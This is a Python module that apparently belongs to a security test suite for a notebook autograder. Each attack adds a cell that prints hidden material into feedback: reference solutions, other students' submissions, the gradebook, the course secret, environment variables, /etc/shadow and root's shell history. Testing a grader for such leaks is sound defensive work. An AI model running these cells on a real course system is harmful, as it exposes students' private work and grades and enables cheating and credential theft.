"""Printing what the student must not see into the notebook output, so it would reach feedback."""

from __future__ import annotations

from attackzoo import Attack, add_cell, hidden, steal


def _print_reference(folder, ctx):
    add_cell(
        folder,
        steal(ctx)
        + (
            "import base64, glob\n"
            "if _zoo_text:\n"
            "    print(_zoo_text)\n"
            "    print(_zoo_text.replace('return', 'retrun'))\n"
            "    print('\\n'.join(line[::-1] for line in _zoo_text.splitlines()))\n"
            f"for path in glob.glob({hidden(str(ctx.repo))} + '/mlplab/course/checks/*.py')[:3]:\n"
            "    print(open(path).read()[:20000])\n"
        ),
    )


def _print_other_students(folder, ctx):
    add_cell(
        folder,
        (
            "import glob, os\n"
            f"course = {hidden(str(ctx.course))}\n"
            "for path in sorted(glob.glob(course + '/submitted/*/lab5/mlplab/*.py') "
            "+ glob.glob(course + '/autograded/*/lab5/mlplab/*.py')):\n"
            "    try:\n"
            "        print(path, open(path).read())\n"
            "    except Exception as e:\n"
            "        print(type(e).__name__)\n"
            "for path in glob.glob(os.getcwd() + '/../../*/lab5/mlplab/*.py'):\n"
            "    print(path, open(path).read())\n"
        ),
    )


def _print_gradebook(folder, ctx):
    add_cell(
        folder,
        (
            "import sqlite3\n"
            f"course = {hidden(str(ctx.course))}\n"
            "try:\n"
            "    db = sqlite3.connect(course + '/gradebook.db')\n"
            "    print(db.execute('select * from grade').fetchall())\n"
            "except Exception as e:\n"
            "    print(type(e).__name__)\n"
            "for name in ('/.mlplab-secret', '/nbgrader_config.py'):\n"
            "    try:\n"
            "        print(open(course + name).read())\n"
            "    except Exception as e:\n"
            "        print(type(e).__name__)\n"
        ),
    )


def _print_environment(folder, ctx):
    add_cell(
        folder,
        (
            "import os\n"
            "print(dict(os.environ))\n"
            "for path in ('/proc/1/environ', f'/proc/{os.getppid()}/environ', '/etc/passwd', '/etc/shadow',\n"
            "             '/root/.bash_history', '/proc/1/cmdline'):\n"
            "    try:\n"
            "        print(path, open(path, 'rb').read().decode(errors='replace'))\n"
            "    except Exception as e:\n"
            "        print(path, type(e).__name__)\n"
        ),
    )


def _markers_in_output(folder, ctx):
    add_cell(folder, "print('### BEGIN SOLUTION\\n### END SOLUTION\\n### BEGIN HIDDEN TESTS\\n### END HIDDEN TESTS')")


ATTACKS = [
    Attack(
        "print_reference",
        "a cell prints the reference (as is, edited, reversed) and the checks' source",
        _print_reference,
        base="reference",
    ),
    Attack("print_other_students", "a cell prints every other student's exercise files", _print_other_students),
    Attack("print_gradebook", "a cell prints the gradebook, the course secret and its config", _print_gradebook),
    Attack(
        "print_environment",
        "a cell prints the environment, the parent's and init's environment, /etc/passwd, /etc/shadow",
        _print_environment,
    ),
    Attack(
        "print_solution_markers",
        "a cell prints the solution and hidden-test markers (feedback for the class must go on)",
        _markers_in_output,
        base="reference",
    ),
]
